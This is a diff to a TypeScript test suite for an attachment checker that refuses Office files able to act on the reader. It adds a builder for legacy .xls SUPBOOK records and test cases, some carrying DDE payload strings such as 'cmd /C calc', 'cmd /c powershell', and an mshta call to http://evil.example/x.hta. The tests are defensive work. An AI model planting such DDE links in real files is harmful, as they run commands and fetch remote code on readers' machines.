@@ -650,6 +650,24 @@ describe('Office attachments that act on the reader are refused (DDE, macros, Ac
     return bytes;
   };
 
+  /**
+   * A legacy Excel workbook whose bytes hold a SUPBOOK record (type 0x01AE), the link table entry a DDE link, an external
+   * workbook or the workbook itself is named by: sheet count, then the path (one-byte or UTF-16 characters).
+   */
+  const legacyWorkbook = (path: string | undefined, { sheets = 0, utf16 = false }: { sheets?: number; utf16?: boolean } = {}) => {
+    const directory = compoundFile(['Workbook']);
+    const characters = path === undefined ? Buffer.alloc(0) : Buffer.from(path, utf16 ? 'utf16le' : 'latin1');
+    const body =
+      path === undefined
+        ? [sheets & 0xff, sheets >> 8, 0x01, 0x04]
+        : [sheets & 0xff, sheets >> 8, path.length & 0xff, path.length >> 8, utf16 ? 1 : 0, ...characters];
+    const record = [0xae, 0x01, body.length & 0xff, body.length >> 8, ...body];
+    const bytes = new Uint8Array(directory.length + record.length + 4);
+    bytes.set(directory);
+    bytes.set(record, directory.length);
+    return bytes;
+  };
+
   const activeOfficeProblems = async (name: string, bytes: Uint8Array) => {
     const check = await checkAttachmentType(name, bytes);
     return check.ok ? [] : check.problems.filter((problem) => problem.key === 'attachment.office-active-content').map((problem) => problem.params);
@@ -816,6 +834,9 @@ describe('Office attachments that act on the reader are refused (DDE, macros, Ac
     ],
     ['a DDE field in a legacy .doc (UTF-16 text)', 'notice.doc', legacyWord('utf16le', '\x13 dde "cmd" "/c calc" \x14ผล\x15'), ['dde']],
     ['macros in a legacy .xls', 'sheet.xls', compoundFile(['Workbook', '_VBA_PROJECT_CUR']), ['macros']],
+    ["a DDE link in a legacy .xls (cmd|' /C calc'!A0)", 'sheet.xls', legacyWorkbook('cmd\x03 /C calc'), ['dde']],
+    ['a DDE link in a legacy .xls, its path in UTF-16', 'sheet.xls', legacyWorkbook('cmd\x03/c powershell', { utf16: true }), ['dde']],
+    ['a DDE link in a legacy .xls that also claims sheets', 'sheet.xls', legacyWorkbook('mshta\x03http://evil.example/x.hta', { sheets: 1 }), ['dde']],
     [
       'all at once, in a fixed order',
       'notice.docx',
@@ -903,6 +924,12 @@ describe('Office attachments that act on the reader are refused (DDE, macros, Ac
     ],
     ['a legacy .doc with a PAGE field and the word DDE in its text', 'notice.doc', legacyWord('utf16le', 'DDE คือชื่อคำสั่ง \x13 PAGE \x141\x15')],
     ['a legacy .doc without macros', 'notice.doc', compoundFile(['WordDocument', '1Table', 'SummaryInformation'])],
+    [
+      'a legacy .xls with a link to another workbook (its path marked 0x01, folders split by 0x03)',
+      'sheet.xls',
+      legacyWorkbook('\x01\x01C\x03budget\x03plan.xls', { sheets: 2 }),
+    ],
+    ['a legacy .xls referring to itself', 'sheet.xls', legacyWorkbook(undefined, { sheets: 3 })],
   ])('accepts %s', async (_name, fileName, bytes) => {
     expect(await checkAttachmentType(fileName, bytes)).toMatchObject({ ok: true });
   });
